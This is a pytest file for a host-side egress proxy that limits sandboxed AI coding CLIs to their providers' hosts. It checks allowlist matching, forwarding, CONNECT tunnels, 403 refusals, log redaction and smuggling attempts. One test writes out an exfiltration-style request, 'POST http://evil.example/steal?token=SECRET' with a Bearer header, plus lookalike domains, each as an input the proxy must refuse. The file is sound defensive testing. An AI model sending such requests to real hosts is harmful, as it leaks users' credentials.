"""The egress proxy on the host, with real sockets: what it admits, forwards, refuses and logs.

The same proxy seen from inside a CLI member's container is tests/security/test_egress.py.
"""

from __future__ import annotations

import logging
import re
import socket
from collections.abc import AsyncIterator, Awaitable, Callable
from contextlib import asynccontextmanager
from pathlib import Path

import anyio
import anyio.abc
import pytest
from pydantic import ValidationError

from conclave.config.hosts import parse_host_rule, url_rule
from conclave.config.models import SandboxSpec
from conclave.errors import ConfigError, SandboxError
from conclave.sandbox.allowlist import CLI_HOSTS, CLIS, allowlist_for
from conclave.sandbox.clis_image import CLI_PINS
from conclave.sandbox.egress import EgressProxy, egress_proxy
from conclave.sandbox.engine import connect
from conclave.sandbox.member import MemberSandbox
from conclave.sandbox.route import CA_PATH, DirectRoute
from conclave.settings import Settings
from tests.fakes.redirect import ProviderRedirect

pytestmark = pytest.mark.anyio
ROOT = Path(__file__).resolve().parents[1]


class Origin:
    """A host server on 127.0.0.1 that records the heads it gets and answers each with its name."""

    def __init__(self, name: str) -> None:
        self.name, self.port = name, 0
        self.heads: list[bytes] = []

    async def handle(self, stream: anyio.abc.SocketStream) -> None:
        async with stream:
            data = b""
            while b"\r\n\r\n" not in data:
                chunk = await stream.receive()
                data += chunk
            self.heads.append(data.split(b"\r\n\r\n")[0])
            body = f"from {self.name}".encode()
            await stream.send(b"HTTP/1.1 200 OK\r\nContent-Length: %d\r\n\r\n%s" % (len(body), body))


@pytest.fixture
async def origins() -> AsyncIterator[tuple[Origin, Origin]]:
    """Two origins: `allowed` will be on the allowlist, `other` not."""
    allowed, other = Origin("allowed"), Origin("other")
    async with anyio.create_task_group() as group:
        for origin in (allowed, other):
            listener = await anyio.create_tcp_listener(local_host="127.0.0.1")
            origin.port = listener.extra(anyio.abc.SocketAttribute.local_port)
            group.start_soon(listener.serve, origin.handle)
        yield allowed, other
        group.cancel_scope.cancel()


@asynccontextmanager
async def connected(proxy: EgressProxy) -> AsyncIterator[socket.socket]:
    """A blocking client socket whose other end the proxy serves as one connection, as it serves each
    one a member's relay brings (sandbox/egress_channel.py); for a worker thread to use."""
    ours, theirs = socket.socketpair()
    ours.settimeout(10)
    async with anyio.create_task_group() as group:
        group.start_soon(proxy.handle, await anyio.abc.SocketStream.from_socket(theirs))
        try:
            yield ours
        finally:
            ours.close()


def exchange(client: socket.socket, request: bytes) -> bytes:
    """Send `request`, then read until the proxy closes (blocking)."""
    client.sendall(request)
    client.shutdown(socket.SHUT_WR)  # what was sent is all: a head left unfinished ends here
    reply = b""
    while chunk := client.recv(65536):
        reply += chunk
    return reply


async def ask(proxy: EgressProxy, request: bytes) -> bytes:
    """Send `request` to the proxy as one connection and read until it closes (in a worker thread)."""
    async with connected(proxy) as client:
        return await anyio.to_thread.run_sync(exchange, client, request)


async def test_each_cli_gets_its_providers_hosts_and_nothing_else() -> None:
    for cli in CLIS:
        allow = allowlist_for(cli)
        for host in CLI_HOSTS[cli]:
            if not host.startswith("*."):
                assert allow.admits(host, 443) and allow.admits(host.upper() + ".", 443)
                assert not allow.admits(host, 80), "only the HTTPS port"
        assert not allow.admits("example.com", 443)
    assert not allowlist_for("claude-code").admits("api.openai.com", 443), "a CLI gets its own provider only"
    copilot = allowlist_for("copilot")
    assert copilot.admits("api.individual.githubcopilot.com", 443)
    assert not copilot.admits("githubcopilot.com.evil.net", 443) and not copilot.admits(
        "evilgithubcopilot.com", 443
    )


async def test_base_url_and_extra_hosts_extend_the_allowlist_exactly() -> None:
    allow = allowlist_for(
        "codex", base_url="http://127.0.0.1:8123/v1", extra=["llm.internal:8443", "*.corp.example"]
    )
    assert allow.admits("127.0.0.1", 8123) and not allow.admits("127.0.0.1", 8124)
    assert not allow.admits("localhost", 8123), "a name is not its address"
    assert allow.admits("llm.internal", 8443) and not allow.admits("llm.internal", 443)
    assert allow.admits("a.corp.example", 443) and not allow.admits("corp.example", 443)
    assert str(url_rule("https://[::1]/v1")) == "[::1]:443"
    with pytest.raises(ConfigError, match="not a host rule"):
        allowlist_for("codex", extra=["https://llm.internal/v1"])
    with pytest.raises(ConfigError, match="base_url"):
        allowlist_for("codex", base_url="ftp://x")
    with pytest.raises(ValueError, match="outside 1-65535"):
        parse_host_rule("x:0")


async def test_team_and_setting_keys_are_checked_where_they_are_read() -> None:
    assert SandboxSpec(allow_hosts=["llm.internal:8443"]).allow_hosts == ["llm.internal:8443"]
    with pytest.raises(ValidationError, match="not a host rule"):
        SandboxSpec(allow_hosts=["a host"])
    assert Settings(egress_allow="a.example, b.example:8443").egress_allow == ("a.example", "b.example:8443")
    with pytest.raises(ValidationError, match="not a host rule"):
        Settings(egress_allow="ok.example,http://bad/")


async def test_plain_http_reaches_an_allowed_host_with_hop_headers_dropped(
    tmp_path: Path, origins: tuple[Origin, Origin]
) -> None:
    allowed, other = origins
    async with egress_proxy(
        allowlist_for(None, base_url=f"http://127.0.0.1:{allowed.port}"), route=DirectRoute()
    ) as proxy:
        request = (
            f"GET http://127.0.0.1:{allowed.port}/v1/x?key=k HTTP/1.1\r\nHost: 127.0.0.1:{allowed.port}\r\n"
            "Proxy-Authorization: Basic c2VjcmV0\r\nConnection: keep-alive\r\n\r\n"
        )
        reply = await ask(proxy, request.encode())
    assert reply.startswith(b"HTTP/1.1 200") and reply.endswith(b"from allowed")
    (head,) = allowed.heads
    assert head.startswith(b"GET /v1/x?key=k HTTP/1.1\r\n"), "origin form, query kept"
    assert b"Proxy-Authorization" not in head and b"keep-alive" not in head and b"Connection: close" in head
    assert proxy.admitted == 1 and proxy.denied == [] and other.heads == []


async def test_connect_tunnels_to_an_allowed_host_with_pipelined_bytes(
    tmp_path: Path, origins: tuple[Origin, Origin]
) -> None:
    allowed, _ = origins
    async with egress_proxy(
        allowlist_for(None, extra=[f"127.0.0.1:{allowed.port}"]), route=DirectRoute()
    ) as proxy:
        request = f"CONNECT 127.0.0.1:{allowed.port} HTTP/1.1\r\n\r\nGET /inside HTTP/1.1\r\n\r\n"
        reply = await ask(proxy, request.encode())
    assert reply.startswith(b"HTTP/1.1 200 Connection Established\r\n\r\nHTTP/1.1 200 OK")
    assert allowed.heads == [b"GET /inside HTTP/1.1"]


@pytest.mark.parametrize("kind", ["connect", "http", "other-port", "ip-for-name"])
async def test_hosts_off_the_allowlist_get_a_403_and_a_log_line_without_secrets(
    tmp_path: Path, origins: tuple[Origin, Origin], kind: str, caplog: pytest.LogCaptureFixture
) -> None:
    allowed, other = origins
    target = {
        "connect": "CONNECT evil.example:443 HTTP/1.1\r\n\r\n",
        "http": "POST http://evil.example/steal?token=SECRET HTTP/1.1\r\n"
        "Authorization: Bearer SECRET\r\n\r\n",
        "other-port": f"GET http://127.0.0.1:{other.port}/?SECRET HTTP/1.1\r\n\r\n",
        "ip-for-name": f"CONNECT localhost:{allowed.port} HTTP/1.1\r\n\r\n",  # only 127.0.0.1:port is listed
    }[kind]
    caplog.set_level(logging.INFO, logger="conclave.sandbox.egress")
    async with egress_proxy(
        allowlist_for("claude-code", base_url=f"http://127.0.0.1:{allowed.port}"),
        route=DirectRoute(),
        label="cj-1/A",
    ) as proxy:
        reply = await ask(proxy, target.encode())
    assert reply.startswith(b"HTTP/1.1 403 Forbidden") and b"not on this member's allowlist" in reply
    assert len(proxy.denied) == 1 and proxy.admitted == 0
    assert other.heads == [] and allowed.heads == []
    assert "refused" in caplog.text and "cj-1/A" in caplog.text
    assert "SECRET" not in caplog.text and "steal" not in caplog.text, "paths, queries, headers never logged"


async def test_the_tests_redirect_sends_an_admitted_host_to_its_fake_and_widens_nothing(
    tmp_path: Path, origins: tuple[Origin, Origin]
) -> None:
    """A route (here the tests' `ProviderRedirect`, tests/fakes/redirect.py; the seam is
    server/sandbox/route.py) changes where an admitted host connects, never what is admitted: a
    redirected name off the allowlist, or on another port, is still refused."""
    allowed, other = origins
    redirect = ProviderRedirect(
        {"api.anthropic.com": allowed.port, "api.openai.com": other.port}, tmp_path / "ca.pem"
    )
    async with egress_proxy(allowlist_for("claude-code"), route=redirect) as proxy:
        inside = b"GET /v1/messages HTTP/1.1\r\n\r\n"
        reply = await ask(proxy, b"CONNECT API.Anthropic.com.:443 HTTP/1.1\r\n\r\n" + inside)
        for refused in ("CONNECT api.openai.com:443", f"CONNECT api.anthropic.com:{allowed.port}"):
            denied = await ask(proxy, f"{refused} HTTP/1.1\r\n\r\n".encode())
            assert denied.startswith(b"HTTP/1.1 403"), refused
    assert reply.startswith(b"HTTP/1.1 200 Connection Established") and reply.endswith(b"from allowed")
    assert allowed.heads == [b"GET /v1/messages HTTP/1.1"] and other.heads == []
    assert [(d.host, d.port) for d in proxy.denied] == [
        ("api.openai.com", 443),
        ("api.anthropic.com", allowed.port),
    ]
    assert redirect.target("api.anthropic.com", 80) == ("api.anthropic.com", 80)  # only HTTPS is sent


async def test_a_kept_alive_connection_cannot_carry_a_second_request_elsewhere(
    tmp_path: Path, origins: tuple[Origin, Origin]
) -> None:
    allowed, other = origins
    first = f"GET http://127.0.0.1:{allowed.port}/one HTTP/1.1\r\n\r\n"
    second = f"GET http://127.0.0.1:{other.port}/two HTTP/1.1\r\n\r\n"
    async with egress_proxy(
        allowlist_for(None, extra=[f"127.0.0.1:{allowed.port}"]), route=DirectRoute()
    ) as proxy:
        reply = await ask(proxy, (first + second).encode())
    assert reply.count(b"HTTP/1.1 200") == 1 and other.heads == []


async def test_what_is_not_a_proxy_request_is_refused_and_the_proxy_keeps_serving(
    tmp_path: Path, origins: tuple[Origin, Origin]
) -> None:
    allowed, _ = origins
    async with egress_proxy(
        allowlist_for(None, extra=[f"127.0.0.1:{allowed.port}", "127.0.0.1:1"]), route=DirectRoute()
    ) as proxy:
        for junk in (
            b"\x16\x03\x01 hello\r\n\r\n",
            b"GET /relative HTTP/1.1\r\n\r\n",
            b"CONNECT nohost HTTP/1.1\r\n\r\n",
            b"GET https://127.0.0.1:1/ HTTP/1.1\r\n\r\n",
        ):
            assert (await ask(proxy, junk)).startswith(b"HTTP/1.1 400")
        assert (await ask(proxy, b"CONNECT 127.0.0.1:1 HTTP/1.1\r\n\r\n")).startswith(b"HTTP/1.1 502"), (
            "an allowed host that does not answer"
        )
        assert await ask(proxy, b"GET http://127.0.0.1") == b"", "a head never finished"
        request = f"GET http://127.0.0.1:{allowed.port}/ HTTP/1.1\r\n\r\n".encode()
        assert (await ask(proxy, request)).endswith(b"from allowed")


async def test_a_feed_is_served_only_while_the_proxy_lives() -> None:
    """A member's relay attaches to its proxy; outside `egress_proxy` there is nothing to attach to, and
    leaving it ends every feed."""
    started, ended = anyio.Event(), anyio.Event()

    async def feed(handle: Callable[[anyio.abc.ByteStream], Awaitable[None]]) -> None:
        started.set()
        try:
            await anyio.sleep_forever()
        finally:
            ended.set()

    async with egress_proxy(allowlist_for(None), route=DirectRoute()) as proxy:
        proxy.attach(feed)
        await started.wait()
    assert ended.is_set()
    with pytest.raises(SandboxError, match="not serving"):
        proxy.attach(feed)


def test_the_image_pins_the_clis_the_tests_install() -> None:
    script = (ROOT / ".ci" / "install-agent-clis.sh").read_text()
    pinned = tuple(re.findall(r'^\s*"(@[^"]+@[0-9.]+)"', script, re.MULTILINE))
    assert pinned == CLI_PINS


async def test_a_member_container_trusts_its_routes_extra_ca_and_by_default_none(tmp_path: Path) -> None:
    """The container's TLS ends where its proxy's route sends the tunnel, so it trusts that route's
    extra CA (read-only, with the variables each CLI reads); the default route adds no CA at all."""
    ca = tmp_path / "ca.pem"
    ca.write_text("a CA\n")
    allow = allowlist_for("claude-code")
    async with (
        egress_proxy(allow, route=DirectRoute()) as direct,
        egress_proxy(allow, route=DirectRoute(extra_ca=ca)) as inspected,
    ):
        client = connect()  # the launch asks the engine what it is (Podman mounts HOME its own way)
        plain = MemberSandbox(client, egress=direct)._launch(SandboxSpec())
        trusting = MemberSandbox(client, egress=inspected)._launch(SandboxSpec())
    assert plain["mounts"] == [], "no socket, no file: the relay comes through the engine's API"
    assert not {"NODE_EXTRA_CA_CERTS", "CODEX_CA_CERTIFICATE"} & set(plain["environment"])
    ca_mount = {m["Target"]: m for m in trusting["mounts"]}[CA_PATH]
    assert ca_mount["Source"] == str(ca.resolve()) and ca_mount["ReadOnly"] is True
    assert trusting["environment"]["NODE_EXTRA_CA_CERTS"] == CA_PATH
    assert trusting["environment"]["CODEX_CA_CERTIFICATE"] == CA_PATH
